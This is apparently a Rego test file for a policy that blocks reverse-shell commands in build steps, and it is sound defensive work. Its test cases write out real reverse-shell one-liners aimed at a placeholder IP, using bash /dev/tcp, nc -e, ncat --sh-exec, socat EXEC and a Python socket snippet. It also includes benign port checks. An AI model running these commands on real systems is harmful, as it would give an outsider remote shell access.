package policyd.injection.reverse_shell_test

import data.policyd.injection.reverse_shell

command(text, argv) := {
	"text": text, "program": argv[0], "argv": argv, "pipes_to": "", "shell": "bash", "untrusted": false,
	"at": ["commands", 0], "stage": "build",
}

denied(text, argv) if {
	count(reverse_shell.deny) == 1 with input.commands as [command(text, argv)]
}

fine(text, argv) if {
	count(reverse_shell.deny) == 0 with input.commands as [command(text, argv)]
}

test_interactive_shell_over_tcp_is_denied if {
	denied("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", ["bash", "-i"])
}

test_shell_fed_by_a_connection_is_denied if {
	denied("exec 5<>/dev/tcp/203.0.113.9/4444; cat <&5 | sh", ["exec"])
}

test_netcat_is_denied if denied("nc -e /bin/sh 203.0.113.9 4444", ["nc", "-e", "/bin/sh", "203.0.113.9", "4444"])

test_ncat_is_denied if {
	denied("ncat --sh-exec /bin/bash 203.0.113.9 1", ["ncat", "--sh-exec", "/bin/bash", "203.0.113.9", "1"])
}

test_socat_is_denied if {
	denied("socat TCP:203.0.113.9:1 EXEC:/bin/sh", ["socat", "TCP:203.0.113.9:1", "EXEC:/bin/sh"])
}

test_python_is_denied if {
	denied("python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'", ["python3", "-c", "import socket"])
}

test_waiting_for_a_port_is_fine if fine("timeout 1 bash -c '</dev/tcp/db/5432'", ["bash", "-c", "</dev/tcp/db/5432"])

test_looking_at_a_port_is_fine if fine("nc -z localhost 5432", ["nc", "-z", "localhost", "5432"])

test_talking_about_it_is_fine if {
	fine("grep -r 'bash -i >& /dev/tcp/' src", ["grep", "-r", "bash -i >& /dev/tcp/", "src"])
}

test_plain_command_is_fine if fine("make test", ["make", "test"])

test_no_command_is_fine if {
	count(reverse_shell.deny) == 0 with input.commands as []
}
